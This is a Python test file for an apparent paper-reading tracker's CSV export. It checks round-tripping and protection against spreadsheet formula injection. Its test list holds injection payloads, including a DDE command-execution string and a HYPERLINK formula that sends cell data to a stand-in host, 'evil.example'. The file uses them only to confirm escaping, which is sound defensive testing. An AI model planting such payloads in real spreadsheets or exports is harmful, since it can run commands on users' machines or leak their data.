"""Tables for spreadsheets: read back as they were, and nothing in them is run as a formula (A45)."""

import csv
import io
import re
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from readtrack.infra.text import csv as text_csv
from readtrack.ingest.parser import parse
from readtrack.workspace.export.formats import ExportPaper, all_exports

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\u3000＝1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
]
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]))


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(text_csv.MARK), newline="")))


def written(*papers: ExportPaper) -> str:
    return all_exports()["csv"].render_document(papers)


def test_a_row_describes_a_paper_and_my_reading():
    paper = ExportPaper(
        id=7,
        kind="paper",
        title="Unicron, at scale",
        authors=("Tao He", "李 明"),
        year=2024,
        published_on=date(2024, 1, 3),
        identifiers=(("arxiv", "2401.00134"), ("doi", "10.1145/7")),
        topics=("Fault tolerance", "訓練"),
        summaries=(("Ada", "Heals itself.", "Long."),),
        reading={"status": "read", "depth": "studied", "started_on": None, "finished_on": date(2024, 2, 1)},
    )
    [row] = rows(written(paper))
    assert row["title"] == "Unicron, at scale"
    assert (row["authors"], row["topics"]) == ("Tao He; 李 明", "Fault tolerance; 訓練")
    assert (row["doi"], row["arxiv"], row["published"]) == ("10.1145/7", "2401.00134", "2024-01-03")
    assert (row["status"], row["depth"], row["started"], row["finished"]) == ("read", "studied", "", "2024-02-01")
    assert row["tldr"] == "Ada: Heals itself."


@pytest.mark.parametrize("text", FORMULAS)
def test_a45_no_cell_starts_like_a_formula(text):
    paper = ExportPaper(id=1, kind="paper", title=text, authors=(text,), venue=text, topics=(text,), abstract=text)
    [row] = rows(written(paper))
    for column in ("title", "authors", "venue", "topics", "abstract"):
        assert row[column].startswith("'")
        assert text_csv.unescape_cell(row[column]) == text


@pytest.mark.parametrize("text", ["2024", "-3", "-0.5", "C++", "a = b", "it's", "'Tis", ""])
def test_text_that_is_not_a_formula_is_unchanged(text):
    assert text_csv.escape_cell(text) == text
    assert text_csv.unescape_cell(text) == text


@given(ANY_TEXT)
def test_a45_every_cell_round_trips(text):
    [line] = csv.reader(io.StringIO("".join([*text_csv.csv_lines([[text]])][1:]), newline=""))
    assert text_csv.unescape_cell(line[0]) == text
    assert not re.match(r"\s*[=+@＝＋＠]", line[0])


def test_the_table_can_be_imported_again():
    papers = [
        ExportPaper(id=1, kind="paper", title="= A title that begins oddly", identifiers=(("arxiv", "2401.00134"),)),
        ExportPaper(
            id=2, kind="paper", title='Quotes " and, commas', identifiers=(("doi", "10.1145/3627703.3650085"),)
        ),
    ]
    found = [entry for entry in parse(written(*papers)) if entry.kind == "paper"]
    assert [entry.title for entry in found] == ["= A title that begins oddly", 'Quotes " and, commas']
    assert [entry.identifiers[0] for entry in found] == ["arxiv:2401.00134", "doi:10.1145/3627703.3650085"]


def test_a_topic_name_with_commas_round_trips_as_one_topic():
    topics = ("Storage, systems; files", "A/B tests", '"Scale" of #1', "検索、推薦", "Plain words")
    paper = ExportPaper(id=1, kind="paper", title="On files", identifiers=(("arxiv", "2401.00134"),), topics=topics)
    [found] = [entry for entry in parse(written(paper)) if entry.kind == "paper"]
    assert found.topics == topics
